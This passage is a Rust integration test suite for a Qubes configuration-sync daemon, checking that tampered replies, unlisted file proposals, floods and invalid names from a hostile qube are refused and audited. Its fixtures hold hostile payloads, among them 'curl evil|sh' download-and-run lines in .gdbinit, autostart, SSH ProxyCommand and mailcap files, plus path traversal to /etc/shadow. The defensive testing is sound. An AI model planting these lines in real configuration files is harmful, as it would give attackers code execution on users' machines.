//! The trust gate at intake, attacked end to end (issue 12, items 1, 2 and 4): the real
//! `qubes-config-syncd` on a private bus, the simulator's dom0, and a **hostile qube** —
//! the real agent whose replies are tampered with on the way out (`EXE hostile MODE
//! SERVICE`, installed as the qube's qrexec service) — or a qube proposing what its
//! profile does not have.
//!
//! Each scenario checks what must not happen (nothing in the inbox, nothing pushed,
//! nothing recorded, not even last-seen state) and what must (a refusal with a reason
//! code, audited with what the qube sent).
//!
//! `harness = false`: the binary is also the agent (and the hostile agent) inside the
//! simulated qubes.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used)]

mod support;

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;

use qcs_core::store::{SeenState, Store};
use qcs_daemon::client::ConfigSyncProxy;
use qcs_daemon::client::types::{AuditEntryView, AuditView, ProposalList, ProposalView, PushPlan};
use qcs_sim::world::QubeSpec;
use serde_json::Value;
use support::{Env, EnvOptions, managed, wait_job};

/// Integrator: set to `true` once the risk branch's `meta.new-path` rule (High) and the
/// review branch's gate (every finding >= High acknowledged) are merged; the scenario
/// `allowlisted_new_path_reaches_the_inbox_as_a_finding` then also checks the finding
/// and that accept without acknowledging it is refused.
const NEW_PATH_RULE_MERGED: bool = true;

fn main() -> std::process::ExitCode {
    hostile_dispatch();
    support::dispatch();
    support::run_all(&[
        (
            "new_path_refused_audited_nothing_pushed",
            new_path_refused_audited_nothing_pushed,
        ),
        (
            "allowlisted_new_path_reaches_the_inbox_as_a_finding",
            allowlisted_new_path_reaches_the_inbox_as_a_finding,
        ),
        (
            "snapshot_replies_breaking_their_request_are_refused_whole",
            snapshot_replies_breaking_their_request_are_refused_whole,
        ),
        (
            "apply_replies_breaking_their_request_are_refused_whole",
            apply_replies_breaking_their_request_are_refused_whole,
        ),
        (
            "rollback_with_a_lying_reply_records_nothing",
            rollback_with_a_lying_reply_records_nothing,
        ),
        ("flood_leaves_bounded_rows", flood_leaves_bounded_rows),
        (
            "invalid_names_and_paths_are_refused_at_the_edge",
            invalid_names_and_paths_are_refused_at_the_edge,
        ),
        (
            "an_adopt_answered_by_a_hostile_qube_changes_nothing",
            an_adopt_answered_by_a_hostile_qube_changes_nothing,
        ),
        (
            "a_directory_entry_is_only_what_the_store_asked_for",
            a_directory_entry_is_only_what_the_store_asked_for,
        ),
    ])
}

// ----- the hostile agent -----

/// `EXE hostile MODE COMMAND ARGS…`: runs the real agent's COMMAND, then tampers with
/// its reply as MODE says, and sends that.
fn hostile_dispatch() {
    let args: Vec<String> = std::env::args().collect();
    if args.get(1).map(String::as_str) != Some("hostile") {
        return;
    }
    let mode = args[2].clone();
    let exe = std::env::current_exe().unwrap();
    let mut child = std::process::Command::new(exe)
        .arg("agent")
        .args(&args[3..])
        .stdin(std::process::Stdio::inherit())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut honest = Vec::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_end(&mut honest)
        .unwrap();
    let status = child.wait().unwrap();
    let mut reply: Value = serde_json::from_slice(&honest).unwrap();
    if let Some(answer) = reply.get_mut("ok") {
        tamper(&mode, answer);
    }
    std::io::stdout()
        .write_all(reply.to_string().as_bytes())
        .unwrap();
    std::process::exit(status.code().unwrap_or(1));
}

fn file_state(bytes: &[u8], mode: u32) -> qcs_protocol::PathState {
    qcs_protocol::PathState::File {
        mode: qcs_protocol::ObservedMode::new(mode),
        size: bytes.len() as u64,
        sha256: qcs_protocol::Sha256Hex::of(bytes),
        hardlinked: false,
        content: Some(qcs_protocol::Content::new(bytes.to_vec()).unwrap()),
    }
}

fn entry(path: &str, state: qcs_protocol::PathState) -> Value {
    serde_json::to_value(qcs_protocol::SnapshotEntry {
        path: qcs_protocol::path::validate_relative_path(path).unwrap(),
        state,
    })
    .unwrap()
}

fn tamper(mode: &str, answer: &mut Value) {
    let list = |answer: &mut Value, key: &str| -> Vec<Value> {
        answer[key].as_array().cloned().unwrap_or_default()
    };
    match mode {
        // Entries it was never asked for: a debugger init file and an autostart entry.
        "snapshot-invent" => {
            let mut entries = list(answer, "entries");
            // First, so the audit excerpt shows it: with a bidi override in it.
            entries.insert(
                0,
                entry(
                    ".gdbinit",
                    file_state("shell curl evil | sh # \u{202e}\n".as_bytes(), 0o100644),
                ),
            );
            entries.push(entry(
                ".config/autostart/evil.desktop",
                file_state(b"[Desktop Entry]\nExec=sh -c 'curl evil|sh'\n", 0o100755),
            ));
            answer["entries"] = entries.into();
        }
        "snapshot-duplicate" => {
            let mut entries = list(answer, "entries");
            let mut twin = entries[0].clone();
            let path = twin["path"].as_str().unwrap().to_owned();
            twin = entry(&path, file_state(b"[core]\n\tpager = evil\n", 0o100644));
            entries.push(twin);
            answer["entries"] = entries.into();
        }
        // A path outside the home: the parse refuses it.
        "snapshot-traversal" => {
            let mut entries = list(answer, "entries");
            entries[0]["path"] = "../../etc/shadow".into();
            answer["entries"] = entries.into();
        }
        // Every file reported as a symlink (as a qube that swapped them would).
        "snapshot-symlinks" => {
            let mut entries = list(answer, "entries");
            for e in &mut entries {
                let path = e["path"].as_str().unwrap().to_owned();
                *e = entry(&path, qcs_protocol::PathState::Symlink);
            }
            answer["entries"] = entries.into();
        }
        "snapshot-missing" => {
            let mut entries = list(answer, "entries");
            entries.pop();
            answer["entries"] = entries.into();
        }
        // Content that is not what its hash and size say.
        "snapshot-lie" => {
            let mut entries = list(answer, "entries");
            let honest = entries[0].clone();
            let mut state = file_state(b"[core]\n\tpager = evil\n", 0o100644);
            if let qcs_protocol::PathState::File { sha256, size, .. } = &mut state {
                *sha256 = qcs_protocol::Sha256Hex::parse(
                    honest["state"]["sha256"]
                        .as_str()
                        .unwrap_or(&"0".repeat(64)),
                )
                .unwrap();
                *size = honest["state"]["size"].as_u64().unwrap_or(0);
            }
            entries[0] = entry(honest["path"].as_str().unwrap(), state);
            answer["entries"] = entries.into();
        }
        "apply-invent" => {
            let mut files = list(answer, "files");
            let mut extra = files[0].clone();
            extra["path"] = ".bashrc".into();
            files.push(extra);
            answer["files"] = files.into();
        }
        "apply-duplicate" => {
            let mut files = list(answer, "files");
            files.push(files[0].clone());
            answer["files"] = files.into();
        }
        "apply-missing" => {
            let mut files = list(answer, "files");
            files.pop();
            answer["files"] = files.into();
        }
        // "written", but with another hash than was sent.
        "apply-lie" => {
            let mut files = list(answer, "files");
            files[0]["outcome"] = serde_json::to_value(qcs_protocol::FileOutcome::Written {
                sha256: qcs_protocol::Sha256Hex::of(b"something else"),
                mode: qcs_protocol::mode::validate_mode(0o644).unwrap(),
                in_place: false,
                backed_up: true,
            })
            .unwrap();
            answer["files"] = files.into();
        }
        other => panic!("unknown hostile mode {other}"),
    }
}

/// Replaces `qube`'s `service` with the hostile agent in `mode`.
fn install_hostile(env: &Env, qube: &str, service: &str, command: &str, mode: &str) {
    let exe = std::env::current_exe().unwrap();
    let path = env
        .world_dir
        .join("qubes")
        .join(qube)
        .join("rpc")
        .join(service);
    std::fs::write(
        &path,
        format!(
            "#!/bin/sh\nexec '{}' hostile {mode} {command} \"$@\"\n",
            exe.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Puts the real agent back as `qube`'s services.
fn install_honest(env: &Env, qube: &str) {
    support::install_agent(&env.world_dir, qube, Some(&env.spool));
}

// ----- helpers -----

const GITCONFIG: &str = "[user]\n\tname = Alice\n[color]\n\tui = auto\n";

fn block<T>(f: impl std::future::Future<Output = T>) -> T {
    zbus::block_on(f)
}

fn pending(
    proxy: &ConfigSyncProxy<'static>,
) -> Vec<qcs_daemon::client::types::ProposalSummaryView> {
    let list: ProposalList =
        serde_json::from_str(&block(proxy.list_proposals("pending")).unwrap()).unwrap();
    list.proposals
}

fn audit(proxy: &ConfigSyncProxy<'static>) -> Vec<AuditEntryView> {
    let view: AuditView =
        serde_json::from_str(&block(proxy.audit_log(0, 10_000)).unwrap()).unwrap();
    view.entries
}

fn propose_from(env: &Env, qube: &str, profile: &str, files: &[&str]) -> (i32, String) {
    let exe = std::env::current_exe().unwrap();
    let (client, _log) =
        support::qrexec_program(env.dir.path(), &env.world_dir, &env.socket(), qube, 0);
    let out = std::process::Command::new(&exe)
        .arg("agent")
        .arg("propose")
        .arg(profile)
        .args(files)
        .env("HOME", env.home(qube))
        .env("QUBES_CONFIG_SYNC_QREXEC_CLIENT", &client)
        .current_dir(env.home(qube))
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

fn let_propose(env: &Env, proxy: &ConfigSyncProxy<'static>, qube: &str, profile: &str) {
    block(proxy.allow_proposals(qube, profile, true)).unwrap();
    env.install_generated_policy(proxy);
    env.answer_ask(
        &format!("qubes.ConfigPropose+{profile} {qube} @default"),
        "allow",
    );
}

fn write_home(env: &Env, qube: &str, path: &str, content: &str) {
    let target = env.home(qube).join(path);
    std::fs::create_dir_all(target.parent().unwrap()).unwrap();
    std::fs::write(target, content).unwrap();
}

fn plan(proxy: &ConfigSyncProxy<'static>, qubes: &[&str]) -> PushPlan {
    serde_json::from_str(&block(proxy.plan_push(qubes, &[], &[])).unwrap()).unwrap()
}

fn execute(
    proxy: &ConfigSyncProxy<'static>,
    plan: &PushPlan,
) -> (bool, qcs_daemon::client::types::JobSummary) {
    let mut finished = block(proxy.receive_job_finished()).unwrap();
    let job = block(proxy.execute_plan(&plan.plan_id)).unwrap();
    wait_job(&mut finished, job)
}

/// Per file: (path, pushed sha256, seen state and when it was seen).
type Recorded = Vec<(String, Option<String>, Option<(SeenState, i64)>)>;

/// What the store recorded about `qube`'s files.
fn recorded(env: &Env, qube: &str) -> Recorded {
    // A second connection next to the backend's (WAL: readers do not block it).
    let store = Store::open(&env.store).unwrap();
    store
        .qube_file_states(&qcs_protocol::validate_vm_name(qube).unwrap())
        .unwrap()
        .into_iter()
        .map(|s| (s.path.to_string(), s.pushed.map(|p| p.sha256), s.seen))
        .collect()
}

/// The last `reply-refused` audit entry.
fn last_refused_reply(proxy: &ConfigSyncProxy<'static>) -> Option<AuditEntryView> {
    audit(proxy)
        .into_iter()
        .rev()
        .find(|e| e.action == "reply-refused")
}

// ----- scenarios -----

/// A qube that may propose `git` proposes files `git` does not have (`.ssh/config`, a
/// `.mailcap`, alone and next to a legitimate change): they are refused before the
/// inbox, audited with the reason code, and never pushed anywhere.
fn new_path_refused_audited_nothing_pushed() {
    let env = Env::start(
        vec![
            managed(QubeSpec::app("work", "fedora").running()),
            managed(QubeSpec::app("victim", "fedora").running()),
        ],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    block(proxy.create_profile("git", "")).unwrap();
    block(proxy.put_file("git", ".gitconfig", GITCONFIG.as_bytes(), 0o644)).unwrap();
    block(proxy.assign("victim", "git", true)).unwrap();
    let_propose(&env, &proxy, "work", "git");

    write_home(
        &env,
        "work",
        ".ssh/config",
        "Host *\n\tProxyCommand sh -c 'curl evil|sh'\n",
    );
    write_home(
        &env,
        "work",
        ".mailcap",
        "text/plain; sh -c 'curl evil|sh' %s\n",
    );
    write_home(&env, "work", ".gitconfig", "[user]\n\tname = Work\n");
    let (code, out) = propose_from(&env, "work", "git", &[".ssh/config"]);
    assert_eq!(code, 0, "{out}");
    let (code, out) = propose_from(&env, "work", "git", &[".mailcap", ".gitconfig"]);
    assert_eq!(code, 0, "{out}");
    block(proxy.ingest_spool()).unwrap();

    // Only the change to a file the profile has reached the inbox.
    let inbox = pending(&proxy);
    let paths: Vec<&str> = inbox.iter().map(|p| p.path.as_str()).collect();
    assert_eq!(paths, vec![".gitconfig"], "{inbox:?}");
    let refusals: Vec<AuditEntryView> = audit(&proxy)
        .into_iter()
        .filter(|e| e.action == "proposal-refused" && e.qube.as_deref() == Some("work"))
        .collect();
    assert_eq!(refusals.len(), 1, "one audit row per qube × reason × hour");
    assert_eq!(refusals[0].detail["code"], "new-path");
    assert_eq!(refusals[0].path.as_deref(), Some(".ssh/config"));
    let counted: u64 = Store::open(&env.store)
        .unwrap()
        .intake_refusals(Some(&qcs_protocol::validate_vm_name("work").unwrap()))
        .unwrap()
        .iter()
        .filter(|r| r.reason == "new-path")
        .map(|r| r.count)
        .sum();
    assert_eq!(counted, 2, "both new paths counted");

    // Accepting what did arrive and pushing writes nothing else into any qube.
    let (code, out, _) = env.cli(&["proposals", "accept", &inbox[0].id.to_string()]);
    assert_eq!(code, 0, "{out}");
    let plan = plan(&proxy, &["victim"]);
    let planned: Vec<&str> = plan.qubes[0]
        .items
        .iter()
        .map(|i| i.path.as_str())
        .collect();
    assert_eq!(planned, vec![".gitconfig"]);
    let (success, summary) = execute(&proxy, &plan);
    assert!(success, "{summary:?}");
    assert!(!env.home("victim").join(".ssh/config").exists());
    assert!(!env.home("victim").join(".mailcap").exists());
    let profile: qcs_daemon::client::types::ProfileView =
        serde_json::from_str(&block(proxy.get_profile("git")).unwrap()).unwrap();
    assert_eq!(profile.files.len(), 1);
    assert!(profile.new_path_globs.is_empty());
}

/// With `.config/git/*` on the profile's allowlist (set through the CLI), a new
/// `.config/git/attributes` reaches the inbox — as a file without a base — while
/// `.config/git/sub/x` and paths elsewhere are still refused.
fn allowlisted_new_path_reaches_the_inbox_as_a_finding() {
    let env = Env::start(
        vec![managed(QubeSpec::app("work", "fedora").running())],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    block(proxy.create_profile("git", "")).unwrap();
    block(proxy.put_file("git", ".gitconfig", GITCONFIG.as_bytes(), 0o644)).unwrap();
    let_propose(&env, &proxy, "work", "git");
    let (code, out, err) = env.cli(&["profile", "allow-new", "git", ".config/git/*"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains(".config/git/*"), "{out}");
    let (code, out, _) = env.cli(&["profile", "show", "git"]);
    assert_eq!(code, 0);
    assert!(out.contains("new paths allowed: .config/git/*"), "{out}");
    // Bad globs are refused with a clear error.
    let (code, _, err) = env.cli(&["profile", "allow-new", "git", "**"]);
    assert_ne!(code, 0);
    assert!(err.contains("glob"), "{err}");

    write_home(&env, "work", ".config/git/attributes", "* filter=evil\n");
    write_home(&env, "work", ".config/git/sub/x", "x\n");
    let (code, out) = propose_from(
        &env,
        "work",
        "git",
        &[".config/git/attributes", ".config/git/sub/x"],
    );
    assert_eq!(code, 0, "{out}");
    block(proxy.ingest_spool()).unwrap();
    let inbox = pending(&proxy);
    assert_eq!(inbox.len(), 1, "{inbox:?}");
    assert_eq!(inbox[0].path, ".config/git/attributes");
    let view: ProposalView =
        serde_json::from_str(&block(proxy.get_proposal(inbox[0].id)).unwrap()).unwrap();
    assert!(view.base_sha256.is_none(), "a new file has no base");
    if NEW_PATH_RULE_MERGED {
        assert!(
            view.findings.iter().any(|f| f.rule == "meta.new-path"),
            "{:?}",
            view.findings
        );
        let (code, out, err) = env.cli(&["proposals", "accept", &inbox[0].id.to_string()]);
        assert_ne!(
            code, 0,
            "accepted a new path without acknowledgement: {out}"
        );
        assert!(
            err.contains("meta.new-path") || out.contains("meta.new-path"),
            "out: {out}\nerr: {err}"
        );
    }

    // Removing the glob closes the door again.
    let (code, out, _) = env.cli(&["profile", "allow-new", "git", ".config/git/*", "--remove"]);
    assert_eq!(code, 0);
    assert!(out.contains("none"), "{out}");
    write_home(&env, "work", ".config/git/ignore", "*.o\n");
    let (code, out) = propose_from(&env, "work", "git", &[".config/git/ignore"]);
    assert_eq!(code, 0, "{out}");
    block(proxy.ingest_spool()).unwrap();
    assert_eq!(pending(&proxy).len(), 1);
}

/// A qube without propose permission answers `qubes.ConfigSnapshot` with entries it was
/// not asked for, twice the same path, a path left out, or content that is not what its
/// hash says: the reply is refused whole — no proposal, no last-seen state — for the
/// import (`Snapshot`) and the push plan alike, and audited with what it sent.
fn snapshot_replies_breaking_their_request_are_refused_whole() {
    let env = Env::start(
        vec![managed(QubeSpec::app("work", "fedora").running())],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    block(proxy.create_profile("git", "")).unwrap();
    block(proxy.put_file("git", ".gitconfig", GITCONFIG.as_bytes(), 0o644)).unwrap();
    block(proxy.put_file("git", ".gitignore", b"*.o\n", 0o644)).unwrap();
    block(proxy.assign("work", "git", true)).unwrap();
    // An honest snapshot first, so there is last-seen state that must not move.
    write_home(&env, "work", ".gitconfig", "[user]\n\tname = Local\n");
    let honest: qcs_daemon::client::types::SnapshotResult =
        serde_json::from_str(&block(proxy.snapshot("work", &[])).unwrap()).unwrap();
    assert_eq!(honest.proposal_ids.len(), 1);
    block(proxy.reject_proposal(honest.proposal_ids[0], "")).unwrap();
    let seen_before = recorded(&env, "work");
    assert_eq!(seen_before.len(), 2, "{seen_before:?}");
    write_home(
        &env,
        "work",
        ".gitconfig",
        "[user]\n\tname = Changed again\n",
    );

    for (mode, code) in [
        ("snapshot-invent", "reply.invented"),
        ("snapshot-duplicate", "reply.duplicate"),
        ("snapshot-missing", "reply.missing"),
        ("snapshot-lie", "reply.content-mismatch"),
        ("snapshot-traversal", "reply.unparsable"),
    ] {
        install_hostile(&env, "work", "qubes.ConfigSnapshot", "snapshot", mode);
        let error = block(proxy.snapshot("work", &[])).unwrap_err().to_string();
        assert!(error.contains(code), "{mode}: {error}");
        assert!(
            pending(&proxy).is_empty(),
            "{mode}: a proposal was imported"
        );
        assert_eq!(
            recorded(&env, "work"),
            seen_before,
            "{mode}: state recorded"
        );
        let entry = last_refused_reply(&proxy).expect("audited");
        assert_eq!(entry.qube.as_deref(), Some("work"));
        assert_eq!(entry.detail["code"], code, "{mode}");
        assert_eq!(entry.detail["service"], "qubes.ConfigSnapshot");
        let sent = entry.detail["sent"].as_str().unwrap();
        assert!(sent.chars().count() <= 512, "{mode}: unbounded excerpt");
        assert!(
            !sent.contains('\u{202e}'),
            "{mode}: raw bidi control in the audit log"
        );
        // The push plan refuses the qube for the same reason and records nothing.
        let plan = plan(&proxy, &["work"]);
        let error = plan.qubes[0].error.as_ref().map(|e| e.code.as_str());
        assert_eq!(error, Some(code), "{mode}: plan error {error:?}");
        assert_eq!(recorded(&env, "work"), seen_before, "{mode}: plan recorded");
    }
    let invented = audit(&proxy)
        .into_iter()
        .find(|e| e.action == "reply-refused" && e.detail["code"] == "reply.invented")
        .unwrap();
    assert!(
        invented.detail["message"]
            .as_str()
            .unwrap()
            .contains(".gdbinit"),
        "{:?}",
        invented.detail
    );
    // The qube behaves again: its reply is taken.
    install_honest(&env, "work");
    let result: qcs_daemon::client::types::SnapshotResult =
        serde_json::from_str(&block(proxy.snapshot("work", &[])).unwrap()).unwrap();
    assert_eq!(result.proposal_ids.len(), 1);
    assert_ne!(recorded(&env, "work"), seen_before);
}

/// `qubes.ConfigApply` answered with a file it was not sent, one twice, one left out, or
/// `written` with another hash: the job reports the qube as failed with the reason
/// code, no pushed state is recorded, and the audit log has the reply.
fn apply_replies_breaking_their_request_are_refused_whole() {
    let env = Env::start(
        vec![managed(QubeSpec::app("work", "fedora").running())],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    block(proxy.create_profile("git", "")).unwrap();
    block(proxy.put_file("git", ".gitconfig", GITCONFIG.as_bytes(), 0o644)).unwrap();
    block(proxy.assign("work", "git", true)).unwrap();
    for (mode, code) in [
        ("apply-invent", "reply.invented"),
        ("apply-duplicate", "reply.duplicate"),
        ("apply-missing", "reply.missing"),
        ("apply-lie", "reply.inconsistent"),
    ] {
        // Each round starts from a qube that has never received the file.
        let _ = std::fs::remove_file(env.home("work").join(".gitconfig"));
        install_hostile(&env, "work", "qubes.ConfigApply", "apply", mode);
        let plan = plan(&proxy, &["work"]);
        assert!(plan.qubes[0].error.is_none(), "{mode}: {plan:?}");
        let before = recorded(&env, "work");
        let pushes_before = audit(&proxy).iter().filter(|e| e.action == "push").count();
        let (success, summary) = execute(&proxy, &plan);
        assert!(!success, "{mode}: the job succeeded");
        let qube = &summary.qubes[0];
        assert_eq!(
            qube.error.as_ref().map(|e| e.code.as_str()),
            Some(code),
            "{mode}: {qube:?}"
        );
        assert_eq!(
            recorded(&env, "work"),
            before,
            "{mode}: pushed state recorded"
        );
        let pushes = audit(&proxy).iter().filter(|e| e.action == "push").count();
        assert_eq!(pushes, pushes_before, "{mode}: a push was audited");
        let entry = last_refused_reply(&proxy).expect("audited");
        assert_eq!(entry.detail["code"], code, "{mode}");
        assert_eq!(entry.detail["service"], "qubes.ConfigApply");
    }
    // The CLI shows the code too.
    install_hostile(&env, "work", "qubes.ConfigApply", "apply", "apply-lie");
    let _ = std::fs::remove_file(env.home("work").join(".gitconfig"));
    let (code, out, err) = env.cli(&["push", "work", "-y"]);
    assert_ne!(code, 0, "{out}");
    assert!(
        format!("{out}{err}").contains("[reply.inconsistent]"),
        "{out}{err}"
    );
}

/// A rollback writes through `qubes.ConfigApply`; a lying reply to it leaves the pushed
/// state where the last honest push put it.
fn rollback_with_a_lying_reply_records_nothing() {
    let env = Env::start(
        vec![managed(QubeSpec::app("work", "fedora").running())],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    block(proxy.create_profile("git", "")).unwrap();
    block(proxy.put_file("git", ".gitconfig", GITCONFIG.as_bytes(), 0o644)).unwrap();
    block(proxy.assign("work", "git", true)).unwrap();
    let (success, _) = execute(&proxy, &plan(&proxy, &["work"]));
    assert!(success);
    block(proxy.put_file("git", ".gitconfig", b"[user]\n\tname = Two\n", 0o644)).unwrap();
    let (success, _) = execute(&proxy, &plan(&proxy, &["work"]));
    assert!(success);
    // The rollback's own snapshot is honest and recorded as seen; what it pushed is not.
    let pushed = |env: &Env| -> Vec<(String, Option<String>)> {
        recorded(env, "work")
            .into_iter()
            .map(|(path, pushed, _)| (path, pushed))
            .collect()
    };
    let before = pushed(&env);
    assert_eq!(
        before[0].1.as_deref(),
        Some(qcs_protocol::sha256_hex(b"[user]\n\tname = Two\n").as_str())
    );
    install_hostile(&env, "work", "qubes.ConfigApply", "apply", "apply-invent");
    let mut finished = block(proxy.receive_job_finished()).unwrap();
    let job = block(proxy.rollback("work", "git", 1)).unwrap();
    let (success, summary) = wait_job(&mut finished, job);
    assert!(!success);
    assert_eq!(
        summary.qubes[0].error.as_ref().map(|e| e.code.as_str()),
        Some("reply.invented")
    );
    assert_eq!(pushed(&env), before);
    assert!(
        !audit(&proxy).iter().any(|e| e.action == "rollback"),
        "a rollback was recorded"
    );
}

/// 300 submissions × 64 files from one qube — refused ones (new paths) and allowed ones
/// past the quota — leave a bounded number of audit rows and proposals.
fn flood_leaves_bounded_rows() {
    const SUBMISSIONS: usize = 150;
    let shm = std::path::Path::new("/dev/shm");
    let mut env = Env::start(
        vec![managed(QubeSpec::app("flood", "fedora").running())],
        EnvOptions {
            tmp_in: shm.is_dir().then(|| shm.to_path_buf()),
            ..Default::default()
        },
    );
    let (conn, proxy) = env.client();
    block(proxy.create_profile("dots", "")).unwrap();
    let allowed: Vec<String> = (0..64).map(|i| format!(".dots/f{i}")).collect();
    for path in &allowed {
        block(proxy.put_file("dots", path, b"x\n", 0o644)).unwrap();
    }
    block(proxy.allow_proposals("flood", "dots", true)).unwrap();
    let audit_before = audit(&proxy).len();
    env.kill_daemon();
    drop(proxy);
    drop(conn);
    let refused: Vec<String> = (0..64).map(|i| format!(".planted/f{i}")).collect();
    for i in 0..SUBMISSIONS {
        let paths = if i % 2 == 0 { &refused } else { &allowed };
        spool_submission(&env.spool, "flood", "dots", paths, i);
    }
    env.start_daemon();
    let (_conn, proxy) = env.client();
    block(proxy.ingest_spool()).unwrap();
    let rows = audit(&proxy);
    let new_rows = rows.len() - audit_before;
    let received = rows
        .iter()
        .filter(|e| e.action == "proposal-received")
        .count();
    assert_eq!(
        received,
        qcs_core::store::MAX_PENDING_PROPOSALS_PER_QUBE,
        "quota"
    );
    // Accepted ones (bounded by the quota) have their row each; refusals one per
    // reason (new-path, quota) and window.
    assert!(
        new_rows <= received + 4,
        "{new_rows} audit rows for {} files",
        SUBMISSIONS * 64
    );
    let counted: u64 = Store::open(&env.store)
        .unwrap()
        .intake_refusals(Some(&qcs_protocol::validate_vm_name("flood").unwrap()))
        .unwrap()
        .iter()
        .map(|r| r.count)
        .sum();
    assert_eq!(
        counted as usize,
        SUBMISSIONS * 64 - received,
        "every refused file counted"
    );
    assert_eq!(
        pending(&proxy).len(),
        qcs_core::store::MAX_PENDING_PROPOSALS_PER_QUBE
    );
}

/// One spooled submission of `paths` (as the receiver writes it).
fn spool_submission(
    spool: &std::path::Path,
    qube: &str,
    profile: &str,
    paths: &[String],
    n: usize,
) {
    use qcs_protocol::{
        Content, ObservedMode, ProposalId, ProposeRequest, ProposedFile, SpooledProposal, Version,
    };
    let dir = spool.join(qube);
    std::fs::create_dir_all(&dir).unwrap();
    let profile = qcs_protocol::profile::validate_profile_id(profile).unwrap();
    let files = paths
        .iter()
        .map(|p| {
            let content = Content::new(format!("flood {n} {p}\n").into_bytes()).unwrap();
            ProposedFile {
                path: qcs_protocol::path::validate_relative_path(p).unwrap(),
                mode: ObservedMode::new(0o644),
                sha256: content.sha256(),
                content,
                base_sha256: None,
            }
        })
        .collect();
    let id = format!("{n:020}-1");
    let record = SpooledProposal {
        version: Version,
        proposal_id: ProposalId::parse(&id).unwrap(),
        source_qube: qcs_protocol::validate_vm_name(qube).unwrap(),
        profile: profile.clone(),
        received_unix: 1,
        request: ProposeRequest {
            version: Version,
            profile,
            files,
            note: None,
        },
    };
    std::fs::write(
        dir.join(format!("{id}.json")),
        qcs_protocol::to_json(&record),
    )
    .unwrap();
}

/// Everything the store holds that a client could change, read beside the backend.
fn store_state(env: &Env) -> String {
    let store = Store::open(&env.store).unwrap();
    let mut state = format!(
        "{:?}\n{:?}\n",
        store.profiles().unwrap(),
        store.qubes().unwrap()
    );
    for profile in store.profiles().unwrap() {
        state += &format!(
            "{:?}\n{:?}\n",
            store.current_files(&profile.id).unwrap(),
            store.new_path_globs(&profile.id).unwrap()
        );
    }
    state += &format!(
        "{:?}\n{:?}\n{}",
        store.proposals(None).unwrap(),
        store.intake_refusals(None).unwrap(),
        store.audit_log(0, 100_000).unwrap().len()
    );
    assert!(store.verify().unwrap().is_empty());
    state
}

/// Issue 12 item 5: qube names, profile ids and paths are parsed once, at the edge.
/// Through the real backend's D-Bus methods and the real CLI: an invalid profile id, a
/// path with `..`, a control character, an over-long name or path → refused with the
/// rule it broke (D-Bus `Error.InvalidArgument`; CLI exit 2 before any call), and
/// nothing of it is stored, not even an audit row. A NUL cannot cross D-Bus at all (a
/// D-Bus string has none): that call fails before it reaches the backend.
fn invalid_names_and_paths_are_refused_at_the_edge() {
    use qcs_daemon::client::Error as DbusError;
    let env = Env::start(
        vec![managed(QubeSpec::app("work", "fedora").running())],
        EnvOptions::default(),
    );
    let (_conn, proxy) = env.client();
    block(proxy.create_profile("git", "")).unwrap();
    block(proxy.put_file("git", ".gitconfig", GITCONFIG.as_bytes(), 0o644)).unwrap();
    block(proxy.assign("work", "git", true)).unwrap();
    let before = store_state(&env);

    let long_qube = "q".repeat(32);
    let long_profile = "p".repeat(32);
    let long_path = "a/".repeat(2048) + "b";
    type Call = Box<dyn Fn(&ConfigSyncProxy<'static>) -> Result<(), DbusError>>;
    let content = GITCONFIG.as_bytes();
    // (what, expected words of the message, the call)
    let cases: Vec<(&str, &str, Call)> = vec![
        (
            "profile id with capitals",
            "is not a valid profile name",
            Box::new(|p| block(p.create_profile("Git", ""))),
        ),
        ("over-long profile id", "the limit is 31", {
            let id = long_profile.clone();
            Box::new(move |p| block(p.create_profile(&id, "")))
        }),
        (
            "profile id with ..",
            "is not a valid profile name",
            Box::new(|p| block(p.set_profile_description("../git", "x"))),
        ),
        (
            "path with ..",
            "'..' component",
            Box::new(move |p| block(p.put_file("git", "../.bashrc", content, 0o644)).map(drop)),
        ),
        (
            "absolute path",
            "absolute",
            Box::new(move |p| block(p.put_file("git", "/etc/profile", content, 0o644)).map(drop)),
        ),
        (
            "path with a control character",
            "U+0001",
            Box::new(move |p| {
                block(p.put_file("git", ".git\u{1}config", content, 0o644)).map(drop)
            }),
        ),
        (
            "path with a bidi override",
            "U+202E",
            Box::new(move |p| {
                block(p.put_file("git", ".gitconfig\u{202e}", content, 0o644)).map(drop)
            }),
        ),
        ("over-long path", "the limit is", {
            let path = long_path.clone();
            Box::new(move |p| block(p.put_file("git", &path, content, 0o644)).map(drop))
        }),
        (
            "read through ..",
            "'..' component",
            Box::new(|p| block(p.get_file("git", "../../etc/shadow")).map(drop)),
        ),
        (
            "remove through ..",
            "'..' component",
            Box::new(|p| block(p.remove_file("git", "../.gitconfig")).map(drop)),
        ),
        (
            "profile of a file",
            "is not a valid profile name",
            Box::new(move |p| block(p.put_file("GIT", ".gitconfig", content, 0o644)).map(drop)),
        ),
        (
            "qube name with ..",
            "is not a valid qube name",
            Box::new(|p| block(p.assign("../work", "git", true))),
        ),
        ("over-long qube name", "is not a valid qube name", {
            let q = long_qube.clone();
            Box::new(move |p| block(p.allow_proposals(&q, "git", true)))
        }),
        (
            "qube name with a newline",
            "is not a valid qube name",
            Box::new(|p| block(p.allow_proposals("work\nvault", "git", true))),
        ),
        (
            "assign a bad profile",
            "is not a valid profile name",
            Box::new(|p| block(p.assign("work", "../git", true))),
        ),
        (
            "settings with a bad profile",
            "is not a valid profile name",
            Box::new(|p| block(p.set_qube_settings("work", &["git", "Git"], &[], true))),
        ),
        (
            "settings of a bad qube",
            "is not a valid qube name",
            Box::new(|p| block(p.get_qube_settings("-work")).map(drop)),
        ),
        (
            "view of a bad qube",
            "is not a valid qube name",
            Box::new(|p| block(p.get_qube("work/..")).map(drop)),
        ),
        (
            "view of a bad profile",
